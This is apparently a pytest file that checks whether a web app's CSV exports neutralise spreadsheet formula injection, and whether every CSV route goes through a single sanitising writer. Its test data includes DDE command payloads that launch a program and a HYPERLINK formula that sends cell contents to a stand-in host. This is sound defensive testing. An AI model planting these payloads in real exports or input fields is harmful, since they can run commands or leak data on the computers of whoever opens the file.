"""No file that a spreadsheet opens holds a formula that somebody else wrote."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from app.insights.csv_lines import cell, csv_lines

if TYPE_CHECKING:
    from fastapi import FastAPI

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://xssmark.example?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＠SUM(1)",
    '";=1+1',
    '"\r\n=1+1',
    "\0=1+1",
)
COVERED = {
    "/traces.csv",
    "/insights/feedback/items.csv",
    "/insights/feedback/themes.csv",
    "/insights/feedback/sample.csv",
    "/insights/feedback/imports/{import_id}/bad.csv",
    "/insights/gaps.csv",
    "/insights/questions.csv",
    "/insights/cost.csv",
    "/evals/{name}/agreement.csv",
    "/evals/{name}/labels.csv",
    "/evals/compare.csv",
    "/evals/{name}/cases.csv",
    "/evals/{name}/slices.csv",
    "/evals/{name}/figures.csv",
    "/api/v1/insights/{table}.csv",
    "/audit.csv",
}
"""Every address that gives a CSV file. Before adding one: is it written by `csv_lines`?"""


def routes(app: FastAPI) -> set[str]:
    """The paths of all routes, those of mounted routers too."""
    found = set()
    waiting = list(app.routes)
    while waiting:
        route = waiting.pop()
        waiting += getattr(route, "routes", None) or []
        inner = getattr(route, "original_router", None)
        waiting += getattr(inner, "routes", None) or []
        found.add(str(getattr(route, "path", "")))
    return found


def starts_a_formula(value: str) -> bool:
    """As a spreadsheet reads a cell, whatever it drops from the front."""
    return value.lstrip(" \u00a0\u200b\ufeff\0")[:1] in tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_is_text_in_every_place_of_a_file(text: str) -> None:
    lines = "".join(csv_lines((text, "b"), [(text, 1), (1, f"{text}\n{text}"), (f"x{text}", "")]))
    for row in csv.reader(io.StringIO(lines, newline="")):
        for value in row:
            assert not starts_a_formula(value) or value.lstrip("-").isdecimal(), value


def test_numbers_stay_numbers() -> None:
    (line,) = csv_lines(("a",), [(-1.5, -2, 0)])
    assert line.splitlines()[1] == "-1.5,-2,0"
    assert cell("-1.5") == "'-1.5"  # somebody's text that reads like one is text


def test_every_route_that_gives_csv_is_known_here() -> None:
    from app.main import create_app
    from app.settings import Settings

    given = {path for path in routes(create_app(Settings(_env_file=None))) if path.endswith(".csv")}
    assert given <= COVERED, f"new: {given - COVERED}"
    assert len(given) > 10


def test_nobody_else_writes_csv() -> None:
    """`csv.writer` stands in one module; files for spreadsheets all come from there."""
    writers = set()
    for folder in ("app", "evals", "ingest"):
        for file in (ROOT / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(file.read_text())):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    writers.add(str(file.relative_to(ROOT)))
    assert writers == {"app/insights/csv_lines.py"}


def test_questions_come_out_of_the_export_as_text(tmp_path: Path) -> None:
    """Through the real pages: what people typed, in the files that whoever looks at it opens."""
    from tests.web.pm_world import insights

    with insights(tmp_path) as (_services, client, asked):
        for text in FORMULAS:
            if "\0" not in text:
                asked.ask(text, session="somebody", quote="Twelve weeks.", state="answered")
        for path in ("/insights/questions.csv", "/traces.csv", "/insights/cost.csv"):
            response = client.get(path)
            assert response.status_code == 200, path
            for row in csv.reader(io.StringIO(response.text, newline="")):
                assert not any(
                    starts_a_formula(value) and not value.lstrip("-").replace(".", "").isdecimal()
                    for value in row
                ), (path, row)
        assert "'=1+1" in client.get("/insights/questions.csv").text
